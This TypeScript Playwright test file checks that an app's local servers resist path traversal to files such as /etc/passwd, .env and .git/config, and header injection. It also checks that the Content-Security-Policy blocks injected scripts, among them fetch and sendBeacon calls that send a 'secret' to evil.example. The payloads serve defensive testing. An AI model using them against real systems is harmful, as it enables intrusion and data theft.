import { request } from 'node:http'
import { localUrl, modes, shell } from '@baithak/build/apps'
import { modeHeaders, shellHeaders } from '@baithak/tools/hosting/host-files'
import { expect, test } from '../../fixtures'
import { long } from '../../fixtures/long'
import { expectNothingRan } from '../expect-nothing-ran'
import { recordForeignRequests } from './record-foreign-requests'
import { runAttacks } from './run-attacks'

interface Attack {
  method?: string
  path?: string
  headers?: Record<string, string>
}

/** Sends a request unchanged; `fetch` would normalize it. */
const send = (origin: string, { method = 'GET', path = '/', headers = {} }: Attack) =>
  new Promise<{ status: number; headers: NodeJS.Dict<string | string[]>; body: string }>(
    (resolve, reject) => {
      const { hostname, port } = new URL(origin)
      const sent = request({ hostname, port, method, path, headers, agent: false }, (response) => {
        const chunks: Buffer[] = []
        response.on('data', (chunk: Buffer) => chunks.push(chunk))
        response.on('end', () =>
          resolve({
            status: response.statusCode ?? 0,
            headers: response.headers,
            body: Buffer.concat(chunks).toString('latin1'),
          }),
        )
      })
      sent.on('error', reject)
      sent.end()
    },
  )

const attacks: (readonly [name: string, attack: Attack])[] = [
  ...['POST', 'PUT', 'DELETE', 'PATCH', 'TRACE', 'PROPFIND'].map(
    (method) => [method, { method, path: '/remotes.json' }] as const,
  ),
  ...[
    '/../package.json',
    '/../../../../../../etc/passwd',
    '/%2e%2e/package.json',
    '/%2e%2e%2f%2e%2e%2fpackage.json',
    '/..%5c..%5cpackage.json',
    '/assets/../../package.json',
    '/assets/%2e%2e/%2e%2e/package.json',
    '/.git/config',
    '/.env',
    '/node_modules/.package-lock.json',
    '//etc/passwd',
    '/%00',
    '/index.html%00.js',
    '/%',
    '/%E0%A4%A.js',
    '/assets/',
    '/assets',
    `/${'a'.repeat(7000)}`,
    `/?${'q=1&'.repeat(1500)}`,
    '/index.html;.js',
    '/remotes.json/',
    '/REMOTES.JSON',
    '/_headers',
    '*',
    'http://evil.example/',
  ].map((path) => [path.slice(0, 40), { path }] as const),
  ...Object.entries({
    Range: 'bytes=5-1,999999999999-',
    'If-None-Match': '*',
    'If-Modified-Since': 'yesterday',
    'Accept-Encoding': 'bomb, br;q=9, gzip;q=-1',
    Accept: '*/*;q=NaN,,,text/html',
    Host: 'evil.example',
    Origin: 'https://evil.example',
    Referer: 'javascript:alert(1)',
    'X-Forwarded-Host': 'evil.example',
    'X-Original-URL': '/../package.json',
    Cookie: `i18next=${'x'.repeat(4000)}`,
    'X-Large': 'x'.repeat(15_000),
  }).map(([name, value]) => [name, { headers: { [name]: value } }] as const),
]

/** Fragments of files outside the served folder. */
const secrets = ['"workspaces"', 'root:x:0', '[core]', '"lockfileVersion"']

const servers = [
  { name: 'the shell’s server', origin: localUrl(shell.port), headers: shellHeaders },
  ...modes.slice(0, 1).map(({ id, port }) => ({
    name: `the server of ${id}`,
    origin: localUrl(port),
    headers: modeHeaders,
  })),
]
for (const { name, origin, headers } of servers)
  test(
    `${name} responds to every hostile request with its security headers and without a secret`,
    long,
    async () => {
      await runAttacks('headers', attacks, async (attack) => {
        const response = await send(origin, attack)
        expect(response.status).toBeLessThan(500)
        for (const secret of secrets) expect(response.body).not.toContain(secret)
        // A malformed request never reaches the handler.
        if ([400, 431].includes(response.status)) return
        for (const [header, value] of Object.entries(headers))
          expect(response.headers[header.toLowerCase()], header).toBe(value)
        expect(response.headers['access-control-allow-credentials']).toBeUndefined()
      })
      expect((await send(origin, { path: '/remotes.json' })).status).toBeLessThan(500)
    },
  )

const scriptAttacks: readonly (readonly [name: string, code: string])[] = [
  [
    'an inline script',
    "const s = document.createElement('script'); s.text = 'window.ran=1'; document.body.append(s)",
  ],
  [
    'an inline handler',
    "document.body.setAttribute('onclick', 'window.ran=1'); document.body.click()",
  ],
  ['eval', "(0, eval)('window.ran=1')"],
  ['a function from text', "new Function('window.ran=1')()"],
  ['a timer from text', "setTimeout('window.ran=1')"],
  [
    'a javascript: link',
    "const a = document.createElement('a'); a.href = 'javascript:window.ran=1'; document.body.append(a); a.click()",
  ],
  ['a data: module', "import('data:text/javascript,window.ran=1').catch(() => {})"],
  [
    'a blob: module',
    "import(URL.createObjectURL(new Blob(['window.ran=1'], { type: 'text/javascript' }))).catch(() => {})",
  ],
  ['a foreign module', "import('https://evil.example/a.js').catch(() => {})"],
  ['a blob: worker', "new Worker(URL.createObjectURL(new Blob(['1'])))"],
  [
    'a foreign base',
    "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); if (document.baseURI.includes('evil')) window.ran = 1",
  ],
  [
    'a foreign frame',
    "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
  ],
  [
    'a srcdoc frame',
    "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.ran=1</script>'; document.body.append(f)",
  ],
  [
    'a plug-in',
    "const o = document.createElement('object'); o.data = 'https://evil.example/a.swf'; document.body.append(o)",
  ],
  ['markup in text', "document.body.innerHTML = '<img src=x onerror=window.ran=1>'"],
  ['document.write', "document.write('<script>window.ran=1</script>')"],
  [
    'a foreign request',
    "fetch('https://evil.example/?secret').then(() => { window.ran = 1 }, () => {})",
  ],
  ['a beacon', "if (navigator.sendBeacon('https://evil.example/', 'secret')) window.sent = 1"],
  [
    'a foreign form',
    "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()",
  ],
  [
    'a second Trusted Types policy',
    "trustedTypes.createPolicy('evil', { createHTML: (x) => x }); window.ran = 1",
  ],
]

test(
  'the Content-Security-Policy blocks everything that an injected script attempts',
  long,
  async ({ page, onboarded, allowConsoleError }) => {
    allowConsoleError(/./s)
    await onboarded()
    const foreignRequests = await recordForeignRequests(page)
    const session = await page.context().newCDPSession(page)
    await runAttacks('headers', scriptAttacks, async (code) => {
      await page.goto('/work')
      // Playwright's own evaluation is exempt from the policy.
      await session.send('Runtime.evaluate', {
        expression: `{ ${code} }`,
        allowUnsafeEvalBlockedByCSP: false,
      })
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)))
      await expectNothingRan(page)
      expect(foreignRequests).toEqual([])
      expect(new URL(page.url()).hostname).toBe('localhost')
    })
  },
)
